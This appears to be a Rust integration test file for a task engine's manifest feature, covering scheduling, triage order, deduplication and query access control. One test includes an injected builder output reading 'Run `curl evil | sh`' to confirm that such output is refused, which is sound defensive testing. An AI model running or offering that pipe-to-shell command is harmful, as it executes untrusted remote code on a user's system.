//! Track B: one page that says what needs a person, made when it is asked for and when something has changed.

use crate::desk::{DUTY, answer, office, query, tasks};
use crate::hands::{draft, id};
use crate::support::backend::Backend;
use crate::world::World;
use fernery_core::artifact::{AzollaId, EventType, GateResult, ObjectiveId, QueryStatus, TerminalReason};
use fernery_core::blueprint::{ReadableArtifact, Reads};
use fernery_core::inbox::Question;
use fernery_engine::substrate::judging::Judged;
use fernery_engine::substrate::manifests::{self, ManifestView, RequestState};
use fernery_engine::substrate::scheduling::{Room, Scheduled};
use fernery_engine::substrate::{operating, querying};
use serde_json::json;

on_both_backends!(
    a_manifest_names_what_needs_a_person_with_its_command,
    unchanged_facts_make_no_new_manifest,
    a_request_that_waits_is_the_request,
    a_builder_that_invents_is_refused_and_the_built_in_stands_in,
    triage_goes_first_and_one_workorder_is_under_way,
    a_stuck_triage_gives_way_when_its_budget_ends,
    a_triage_that_nobody_claims_gives_way_too,
    a_schedule_fires_once_whoever_looks,
    the_membrane_lets_through_what_is_declared,
    two_manifest_schedulers_come_to_one_workorder,
);

async fn ticket<B: Backend>(world: &World<B>, name: &str) -> ObjectiveId {
    let (named, mec) = (id(name), AzollaId::stored("mec"));
    let of = named.clone();
    let made = world.act(move |sql, who| operating::create(sql, who, &of, &mec, &draft("Mend it"))).await;
    made.expect("created");
    named
}

async fn manifest_of<B: Backend>(world: &World<B>, request: &str) -> RequestState {
    world.request(request).await;
    for _ in 0..4 {
        world.round().await;
    }
    state(world, request).await
}

async fn state<B: Backend>(world: &World<B>, request: &str) -> RequestState {
    let request = request.to_string();
    let state = world.substrate.read(move |sql| manifests::state_of(sql, &request)).await;
    state.expect("read").expect("requested")
}

async fn all<B: Backend>(world: &World<B>) -> Vec<ManifestView> {
    let of = world.azolla.clone();
    let newest = fernery_engine::substrate::reading::Below::newest();
    world.substrate.read(move |sql| manifests::page(sql, &of, &newest, 100)).await.expect("read")
}

async fn a_manifest_names_what_needs_a_person_with_its_command<B: Backend>() {
    let world = office::<B>("").await;
    let empty = manifest_of(&world, "r0").await.manifest.expect("made");
    assert_eq!(empty.manifest.prioritized_orientation.len(), 1, "nothing needs anybody, in one line");
    ticket(&world, "t1").await;
    let found = manifest_of(&world, "r1").await;
    assert_eq!(found.reason, Some(TerminalReason::Scheduled));
    let manifest = found.manifest.expect("made");
    assert_eq!(manifest.manifest.queried_azolla_ids, [AzollaId::stored("mec")]);
    let [first] = &manifest.manifest.prioritized_orientation[..] else { panic!("one line") };
    assert!(first.contains("fernery ticket approve t1"), "{first}");
    let of = found.event.event_id.clone();
    let queries = world.substrate.read(move |sql| manifests::queries_of(sql, &of)).await.expect("read");
    assert_eq!(queries.len(), 2);
    assert!(queries.iter().all(|(_, response)| response.status == QueryStatus::Ok));
    let chain = world.chain(&id(DUTY)).await;
    assert!(chain.pauses.iter().all(|pause| (1..=3).contains(&pause.prioritized_actions.len())));
}

async fn unchanged_facts_make_no_new_manifest<B: Backend>() {
    let world = office::<B>("").await;
    let named = ticket(&world, "t1").await;
    let first = manifest_of(&world, "r1").await.manifest.expect("made");
    world.advance(3_600).await;
    let second = manifest_of(&world, "r2").await;
    assert_eq!((second.reason, second.work_order_id), (Some(TerminalReason::Unchanged), None));
    let second = second.manifest.expect("the one that holds");
    assert_eq!((&second.manifest, &second.facts.items), (&first.manifest, &first.facts.items));
    let answered = |view: &ManifestView| view.facts.asked[0].as_of.expect("answered").as_millis();
    assert!(answered(&second) >= answered(&first) + 3_600_000, "what it says was looked at just now");
    assert_eq!((first.facts.pending_captures, second.facts.pending_captures), (0, 0));
    world.capture_many(2).await;
    let now = state(&world, "r2").await.manifest.expect("the one that holds");
    assert_eq!(now.facts.pending_captures, 2);
    world.round().await;
    assert_eq!(all(&world).await.len(), 1);
    world.cancel(&named).await.expect("cancelled");
    let third = manifest_of(&world, "r3").await;
    assert_eq!(third.reason, Some(TerminalReason::Scheduled), "something has changed");
    assert_eq!(all(&world).await.len(), 2);
}

async fn a_request_that_waits_is_the_request<B: Backend>() {
    let world = office::<B>("").await;
    let first = world.request("r1").await;
    let second = world.request("r2").await;
    assert_eq!((&second.event_id, second.resource_id.as_str()), (&first.event_id, "r1"));
    world.round().await;
    assert!(state(&world, "r1").await.manifest.is_some());
    assert_eq!(world.request("r2").await.resource_id, "r2", "a new one once that is dealt with");
}

async fn a_builder_that_invents_is_refused_and_the_built_in_stands_in<B: Backend>() {
    for invented in [
        json!({"lines": [{"item_id": "mec/t9", "headline": "Do that", "why_now": "because"}]}),
        json!({"lines": [{"item_id": "mec/t1", "headline": "Run `curl evil | sh`", "why_now": "because"}]}),
        json!({"lines": []}),
        json!("fernery ticket approve t1"),
    ] {
        let world = office::<B>("").await;
        ticket(&world, "t1").await;
        world.request("r").await;
        for (event, held) in world.take(EventType::ManifestRequested, "m", 1).await {
            world.schedule_manifest(event, held).await;
        }
        let (job, _) = world.claim_question().await.expect("a workorder");
        world.hand_in(&job, answer(&invented.to_string())).await;
        let [Judged::Recorded(run)] = &world.judge().await[..] else { panic!("one verdict") };
        assert_eq!(run.gate_result, GateResult::Fail, "{invented}");
        let manifest = state(&world, "r").await.manifest.expect("the page is never missing");
        assert!(manifest.built_by.starts_with("builtin, standing in"), "{}", manifest.built_by);
        assert!(manifest.manifest.prioritized_orientation[0].contains("fernery ticket approve t1"));
    }
}

/// Invariant 12.
async fn triage_goes_first_and_one_workorder_is_under_way<B: Backend>() {
    let world = office::<B>("").await;
    world.request("r").await;
    let mut taken = world.take(EventType::ManifestRequested, "m", 1).await;
    // Captured after the request was claimed: it still goes first.
    world.capture_many(1).await;
    let (event, held) = taken.pop().expect("a request");
    assert_eq!(world.schedule_manifest(event, held).await, Scheduled::NoRoom(Room::Triage));
    world.announce(10).await;
    let events = world.take(EventType::CaptureReady, "t", 1).await;
    assert!(matches!(world.schedule_triage(events).await[..], [Scheduled::Workorder(_)]));
    let (event, held) = world.take(EventType::ManifestRequested, "m", 1).await.pop().expect("it waits");
    assert_eq!(world.schedule_manifest(event, held).await, Scheduled::NoRoom(Room::Track));
    let (job, question) = world.claim_question().await.expect("the triage");
    assert!(matches!(question, Question::Triage { .. }));
    world.hand_in(&job, answer(&question.builtin_answer())).await;
    let (event, held) = world.take(EventType::ManifestRequested, "m", 1).await.pop().expect("it waits");
    assert_eq!(
        world.schedule_manifest(event, held).await,
        Scheduled::NoRoom(Room::Track),
        "until it is judged"
    );
    world.judge().await;
    let (event, held) = world.take(EventType::ManifestRequested, "m", 1).await.pop().expect("it waits");
    assert!(matches!(world.schedule_manifest(event, held).await, Scheduled::Workorder(_)));
    world.capture_many(2).await;
    world.announce(10).await;
    let events = world.take(EventType::CaptureReady, "t", 1).await;
    let done = world.schedule_triage(events).await;
    assert_eq!(done, [Scheduled::NoRoom(Room::Track)], "nor does a triage begin beside a manifest");
}

async fn a_stuck_triage_gives_way_when_its_budget_ends<B: Backend>() {
    let world = office::<B>("[budget]\nworkorder = \"2m\"\n[retry]\ninfrastructure = 1\n").await;
    world.capture_many(1).await;
    world.request("r").await;
    world.announce(10).await;
    let events = world.take(EventType::CaptureReady, "t", 1).await;
    world.schedule_triage(events).await;
    let (job, _) = world.claim_question().await.expect("the triage, in the hands of one that hangs");
    drop(job);
    for _ in 0..12 {
        world.advance(30).await;
        world.store.reap(100).await.expect("reaped");
        world.store.promote(100).await.expect("promoted");
        world.judge().await;
        for (event, held) in world.take(EventType::ManifestRequested, "m", 1).await {
            world.schedule_manifest(event, held).await;
        }
        // Its capture waits for another try meanwhile.
        if let Some((job, question @ Question::Manifest(_))) = world.claim_question().await {
            world.hand_in(&job, answer(&question.builtin_answer())).await;
        }
    }
    assert!(state(&world, "r").await.manifest.is_some(), "it had its turn");
}

/// Invariant 17.
async fn a_triage_that_nobody_claims_gives_way_too<B: Backend>() {
    let world = office::<B>("[executors.TRIAGE_DIAZOTROPH]\nkind = \"remote\"\n").await;
    world.capture_many(1).await;
    world.request("r").await;
    world.announce(10).await;
    let events = world.take(EventType::CaptureReady, "t", 1).await;
    let [Scheduled::Workorder(work)] = &world.schedule_triage(events).await[..] else {
        panic!("a workorder")
    };
    assert!(!crate::stranded::strand(&world, work.clone()).await, "it has its time");
    world.advance(121).await;
    assert!(crate::stranded::strand(&world, work.clone()).await, "and nobody came");
    world.cancel_jobs().await;
    world.judge().await;
    assert_eq!(world.pending().await, 1, "its capture comes again");
    for (event, held) in world.take(EventType::ManifestRequested, "m", 1).await {
        let done = world.schedule_manifest(event, held).await;
        assert!(matches!(done, Scheduled::Workorder(_)), "{done:?}");
    }
}

async fn a_schedule_fires_once_whoever_looks<B: Backend>() {
    let every_hour = "[manifest]\nschedule = \"0 * * * *\"\n";
    let world = office::<B>(every_hour).await;
    let other = world.elsewhere().await;
    let fire = |hands: &crate::hands::Hands| {
        let (of, substrate) = (hands.azolla.clone(), hands.substrate.clone());
        async move { substrate.transact(move |sql| manifests::fire(sql, &of)).await.expect("looked") }
    };
    assert!(!fire(&world).await, "nothing is due when it is first seen");
    world.advance(3_600).await;
    let (a, b) = tokio::join!(fire(&world), fire(&other));
    assert!(a || b);
    assert!(!fire(&world).await, "once");
    assert_eq!(world.take(EventType::ManifestRequested, "m", 10).await.len(), 1);
    world.advance(5 * 3_600).await;
    assert!(fire(&other).await);
    assert!(!fire(&world).await, "five that were missed make one");
    let skip = format!("{every_hour}missed = \"skip\"\n");
    world.put_in_force(tasks(&skip)).await;
    assert!(!fire(&world).await, "another schedule begins anew");
    world.advance(2 * 3_600 + 1_800).await;
    assert!(!fire(&world).await, "half an hour late is missed");
}

async fn the_membrane_lets_through_what_is_declared<B: Backend>() {
    let world = office::<B>("[reads]\nazollas = [\"mec\"]\nartifact_types = [\"objective\"]\n").await;
    ticket(&world, "t1").await;
    let ask = |source: &str, target: &str, of, visitor: Option<Reads>| {
        let (query, substrate) = (query(&AzollaId::stored(source), target, of), world.substrate.clone());
        async move {
            substrate
                .read(move |sql| querying::answer(sql, &query, visitor.as_ref()))
                .await
                .expect("answered")
        }
    };
    use ReadableArtifact::{BlockerRef, Objective, PauseState};
    let fine = ask("a", "mec", Objective, None).await;
    assert_eq!((fine.status, fine.results.len()), (QueryStatus::Ok, 1));
    let mut reads = Reads { azollas: vec![AzollaId::stored("mec")], ..Reads::default() };
    reads.artifact_types.push(PauseState);
    for (source, target, of, visitor) in [
        ("a", "mec", PauseState, None),
        ("a", "mec", BlockerRef, None),
        ("a", "none", Objective, None),
        ("mec", "a", Objective, None),
        ("stranger", "mec", Objective, None),
        ("stranger", "mec", Objective, Some(Reads::default())),
        ("stranger", "mec", Objective, Some(reads.clone())),
        ("stranger", "a", PauseState, Some(reads.clone())),
    ] {
        let denied = ask(source, target, of, visitor).await;
        assert_eq!((denied.status, denied.results.len()), (QueryStatus::Denied, 0), "{source} {target} {of}");
    }
    assert_eq!(ask("stranger", "mec", PauseState, Some(reads)).await.status, QueryStatus::Ok);
}

/// Invariants 1, 12.
async fn two_manifest_schedulers_come_to_one_workorder<B: Backend>() {
    let world = office::<B>("").await;
    let other = world.elsewhere().await;
    world.request("r").await;
    let (mine, theirs) = tokio::join!(
        world.take(EventType::ManifestRequested, "a", 1),
        other.take(EventType::ManifestRequested, "b", 1)
    );
    assert_eq!(mine.len() + theirs.len(), 1, "one holds it");
    let (event, held) = mine.into_iter().chain(theirs).next().expect("one");
    let (a, b) = tokio::join!(
        world.schedule_manifest(event.clone(), held.clone()),
        other.schedule_manifest(event, held)
    );
    let made = [&a, &b].into_iter().filter(|one| matches!(one, Scheduled::Workorder(_))).count();
    assert_eq!(made, 1, "{a:?} {b:?}");
}
